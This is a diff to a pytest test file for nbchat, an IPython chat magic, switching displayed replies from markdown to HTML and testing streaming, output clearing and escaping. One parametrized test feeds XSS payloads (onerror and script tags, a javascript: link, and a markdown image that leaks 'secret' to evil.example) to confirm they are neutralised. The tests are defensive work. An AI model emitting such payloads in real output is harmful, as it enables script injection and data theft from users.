@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import _thread
-import json
 import os
 import signal
 import subprocess
@@ -14,12 +13,14 @@ from pathlib import Path
 
 import pytest
 from fakes import FakeProvider
+from htmlcheck import problems, visible_text
 from IPython.core.error import UsageError
 from IPython.core.interactiveshell import InteractiveShell
 
 import nbchat
 from nbchat.core import registry
 from nbchat.core.errors import ProviderError
+from nbchat.core.markdown import render_html
 from nbchat.core.types import ImagePart, Request
 from nbchat.notebook.magics import ChatMagics, expand_models, fill_template, image_paths
 
@@ -35,13 +36,19 @@ class Shell:
         self.ip.register_magics(self.magics)
         self.messages: list[dict] = []
         self._publish = self.ip.display_pub.publish
+        self._clear = self.ip.display_pub.clear_output
         self.ip.display_pub.publish = self._record
+        self.ip.display_pub.clear_output = self._record_clear
 
     def _record(self, data, metadata=None, *, transient=None, update=False, **kw):
         self.messages.append({"data": data, "transient": transient or {}, "update": update})
 
+    def _record_clear(self, wait=False):
+        self.messages.append({"data": {}, "transient": {}, "update": False, "clear": True})
+
     def close(self) -> None:
         self.ip.display_pub.publish = self._publish
+        self.ip.display_pub.clear_output = self._clear
         if self.magics in self.ip.configurables:
             self.ip.configurables.remove(self.magics)
         self.ip.config.pop("ChatMagics", None)  # %config must not leak into the next test
@@ -60,22 +67,27 @@ class Shell:
         assert isinstance(result.error_in_exec, UsageError), result.error_in_exec
         return str(result.error_in_exec)
 
-    def markdown(self) -> list[str]:
-        return [m["data"]["text/markdown"] for m in self.messages if "text/markdown" in m["data"]]
+    def html(self) -> list[str]:
+        """Every text/html payload sent (live, frozen and final)."""
+        return [m["data"]["text/html"] for m in self.messages if "text/html" in m["data"]]
 
     def final_outputs(self) -> list[str]:
-        """The outputs as the notebook keeps them: each display id at its last update."""
+        """The outputs as the notebook keeps them (each display id at its last update, nothing
+        before a clear): their HTML, or an image's base64."""
         outs: list[str] = []
         where: dict[str, int] = {}
         for m in self.messages:
+            if m.get("clear"):
+                outs, where = [], {}
+                continue
             did = m["transient"].get("display_id")
-            md = m["data"].get("text/markdown", "")
+            shown = m["data"].get("text/html", m["data"].get("image/png", ""))
             if m["update"]:
-                outs[where[did]] = md
+                outs[where[did]] = shown
             else:
                 if did:
                     where[did] = len(outs)
-                outs.append(md)
+                outs.append(shown)
         return outs
 
     def thread(self, name: str = "default"):
@@ -127,11 +139,10 @@ def test_local_model_streams_markdown_and_footer(sh):
     sh.ok(f"%%chat {LOCAL} --max-tokens 40 --new\nName three colours.")
     reply = nbchat.last
     assert reply.model == "llamacpp:smollm2" and reply.text
-    outputs = sh.final_outputs()
-    assert outputs[-1].startswith("<sub>llamacpp:smollm2 · ")
-    assert "out tokens" in outputs[-1] and "tok/s" in outputs[-1]
-    assert "".join(outputs[:-1]).strip() == reply.text.strip().replace("<", "&lt;").replace(
-        ">", "&gt;")
+    body, foot = sh.final_outputs()  # the reply as one output, then its footer
+    assert visible_text(foot).startswith("llamacpp:smollm2 · ")
+    assert "out tokens" in foot and "tok/s" in foot
+    assert body == render_html(reply.text)
     assert sh.thread().history[-1].text == reply.text
 
 
@@ -150,7 +161,7 @@ def test_interrupt_stops_local_generation_and_next_cell_works(sh):
     seen: list[str] = []
 
     def interrupt_on_third_update(data, metadata=None, *, transient=None, update=False, **kw):
-        seen.append(data.get("text/markdown", ""))
+        seen.append(data.get("text/plain", "") + data.get("text/html", ""))
         if len(seen) == 3:
             _thread.interrupt_main()  # what a kernel interrupt does: SIGINT to the main thread
 
@@ -189,17 +200,39 @@ def test_updates_stream_in_place_and_are_throttled(sh, fake):
     fake.enqueue(*words, delay=0.002)
     sh.ok("%%chat -m fake:echo\nGo")
     live = [m for m in sh.messages if m["transient"].get("display_id")]
-    ids = {m["transient"]["display_id"] for m in live}
-    assert len(ids) == 1
     assert sum(m["update"] for m in live) >= 2  # shown while it arrived, not only at the end
     assert len(sh.messages) < len(words) / 5  # not one message per token
-    assert sh.final_outputs()[0] == "".join(words)
+    assert sh.final_outputs()[0] == render_html("".join(words))
+
+
+def test_a_long_reply_ends_as_one_output_and_its_footer(sh, fake):
+    """Issue 10: 80 paragraphs made 81 outputs, and a reopened notebook hid the end."""
+    sh.magics.update_interval = 0.01
+    text = "".join(f"Paragraph {i} with a few words in it.\n\n" for i in range(80))
+    fake.enqueue(*[text[i:i + 8] for i in range(0, len(text), 8)], delay=0.0005)
+    sh.ok("%%chat -m fake:echo\nGo")
+    assert sum(1 for m in sh.messages if m.get("clear")) == 1
+    body, foot = sh.final_outputs()
+    assert body == render_html(text)
+    assert visible_text(foot).startswith("fake:echo")
+
+
+def test_chat_in_a_cell_with_other_outputs_clears_nothing(sh, fake):
+    """Only a cell that is all %%chat is cleared: a print before the magic stays."""
+    sh.magics.update_interval = 0.01
+    text = "".join(f"Paragraph {i} with a few words in it.\n\n" for i in range(40))
+    fake.enqueue(*[text[i:i + 8] for i in range(0, len(text), 8)], delay=0.0005)
+    sh.ok("print('mine')\nget_ipython().run_cell_magic('chat', '-m fake:echo', 'Go')")
+    assert not any(m.get("clear") for m in sh.messages)
+    *blocks, foot = sh.final_outputs()
+    assert len(blocks) > 1
+    assert visible_text("".join(blocks)).split() == visible_text(render_html(text)).split()
 
 
 def test_no_stream_shows_once(sh, fake):
     fake.enqueue("a", "b", "c", delay=0.01)
     sh.ok("%%chat -m fake:echo --no-stream\nGo")
-    assert sh.final_outputs()[0] == "abc"
+    assert sh.final_outputs()[0] == render_html("abc")
     assert not any(m["update"] for m in sh.messages)
 
 
@@ -335,21 +368,22 @@ def test_cerebras_missing_key_when_that_provider_exists(sh):
 @pytest.mark.parametrize("bad, forbidden", [
     ("<img src=x onerror=alert(1)>", "<img"),
     ("<script>alert(1)</script>", "<script"),
-    ("[click](javascript:alert(1))", "javascript:"),
-    ("![leak](https://evil.example/x.png?q=secret)", "!["),
+    ("[click](javascript:alert(1))", 'href="javascript'),
+    ("![leak](https://evil.example/x.png?q=secret)", "<img"),
 ])
 def test_model_output_is_escaped(sh, fake, bad, forbidden):
     fake.enqueue("Hello ", bad, "\n\nmore ", bad)
     sh.ok("%%chat -m fake:echo\nGo")
-    sent = sh.markdown()
-    assert sent and not any(forbidden in md for md in sent)
+    sent = sh.html()
+    assert sent and all(problems(h) == [] for h in sent)
+    assert not any(forbidden in h for h in sent)
 
 
 def test_error_mid_stream_keeps_partial_text(sh, fake):
     fake.enqueue("partial ", "text", error=ProviderError("overloaded", status=503, provider="fake"))
     msg = sh.error("%%chat -m fake:echo\nGo")
     assert "503" in msg and "overloaded" in msg
-    assert "partial text" in "".join(sh.final_outputs())
+    assert "partial text" in visible_text("".join(sh.final_outputs()))
     assert nbchat.last.text == "partial text"
     assert sh.thread().history[-1].text == "partial text"
     fake.enqueue("fine")
@@ -385,8 +419,9 @@ def test_tool_calls_are_listed(sh, fake):
 
     fake.enqueue(tool_calls=[ToolCall("get_weather", {"city": "<b>Oslo</b>"})])
     sh.ok("%%chat -m fake:echo\nWeather?")
-    calls = [md for md in sh.markdown() if "Tool calls" in md]
-    assert calls and "get_weather" in calls[0]
+    calls = [h for h in sh.html() if "Tool calls" in h]
+    assert calls and "get_weather" in calls[0] and "<b>" not in calls[0]
+    assert '{"city": "<b>Oslo</b>"}' in visible_text(calls[0])
 
 
 # ---- compare delegation ------------------------------------------------------------------
@@ -509,8 +544,11 @@ def test_models_table(sh, fake, monkeypatch):
 def test_reply_repr_uses_the_same_escaping(sh, fake):
     fake.enqueue("<script>x</script>")
     sh.ok("%%chat -m fake:echo\nGo")
-    assert "<script" not in nbchat.last._repr_markdown_()
-    assert json.dumps(sh.final_outputs()[0]) and "&lt;script&gt;" in sh.final_outputs()[0]
+    shown = sh.final_outputs()[0]
+    assert shown == render_html("<script>x</script>") and "&lt;script&gt;" in shown
+    bundle = nbchat.last._repr_mimebundle_()
+    assert set(bundle) == {"text/html", "text/plain"}  # no text/markdown for a second parser
+    assert shown in bundle["text/html"] and problems(bundle["text/html"]) == []
 
 
 def test_extension_loads_in_a_shell():
